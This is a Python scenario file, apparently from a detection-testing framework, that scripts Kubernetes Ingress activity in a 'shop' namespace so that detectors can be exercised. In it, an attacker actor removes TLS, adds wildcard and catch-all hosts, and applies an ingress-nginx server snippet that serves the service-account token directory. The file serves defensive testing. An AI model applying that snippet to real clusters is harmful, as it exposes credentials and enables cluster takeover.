"""Doors into the shop that are not locked."""

from typing import Any

from recorder.objects import made
from recorder.people import CAROL, DAVE, MALLORY, PIPELINE
from recorder.scenario import scenario
from recorder.stage import Stage


def ingress(name: str, host: str, app: str, *, tls: bool = False, **annotations: str) -> dict[str, Any]:
    """An Ingress of the shop that leads to an app; `annotations` are of ingress-nginx, _ for -."""
    backend = {"service": {"name": app, "port": {"number": 8080}}}
    rule = {"http": {"paths": [{"path": "/", "pathType": "Prefix", "backend": backend}]}}
    spec: dict[str, Any] = {"ingressClassName": "nginx", "rules": [{"host": host, **rule} if host else rule]}
    if tls:
        spec["tls"] = [{"hosts": [host], "secretName": "web-tls"}]
    result = made("Ingress", name, "shop", spec=spec)
    if annotations:
        prefix = "nginx.ingress.kubernetes.io/"
        result["metadata"]["annotations"] = {
            prefix + key.replace("_", "-"): value for key, value in annotations.items()
        }
    return result


@scenario(
    title="Ingresses without TLS, for every host, and with snippets",
    use_case="network-security",
    techniques=["T1190"],
    detect="an Ingress without tls, one that loses it, one for every host, one with a snippet of configuration",
)
def play(stage: Stage) -> None:
    """The pipeline adds an Ingress with TLS. Dave is refused one. Carol, a developer, makes one without TLS for a
    preview. Mallory takes TLS from the shop's own, adds one for every host below contoso.example and one for any host
    at all, and one whose snippet hands the controller's token to whoever asks.
    """
    pipeline, carol, mallory = stage.play_as(PIPELINE), stage.play_as(CAROL), stage.play_as(MALLORY)

    stage.at("09:05:00")
    pipeline.create(ingress("catalog", "catalog.contoso.example", "catalog", tls=True))
    stage.at("09:09:10")
    refused = ingress("orders", "orders.contoso.example", "orders", tls=True)
    stage.play_as(DAVE).kubectl("create", "-f", "-", given=refused, fails=True)
    stage.at("09:16:22")
    carol.kubectl("apply", "-f", "-", given=ingress("preview", "preview.contoso.example", "web"))

    stage.at("09:33:15")
    without = '[{"op":"remove","path":"/spec/tls"}]'
    mallory.kubectl("patch", "ingress", "web", "-n", "shop", "--type=json", f"--patch={without}")
    stage.at("09:35:40")
    every = [ingress("below", "*.contoso.example", "cart"), ingress("any", "", "cart")]
    mallory.kubectl("apply", "-f", "-", given=every)
    stage.at("09:38:02")
    snippet = "location /t { alias /var/run/secrets/kubernetes.io/serviceaccount/; }"
    door = ingress("door", "shop.contoso.example", "web", tls=True, server_snippet=snippet)
    mallory.kubectl("apply", "-f", "-", given=door)
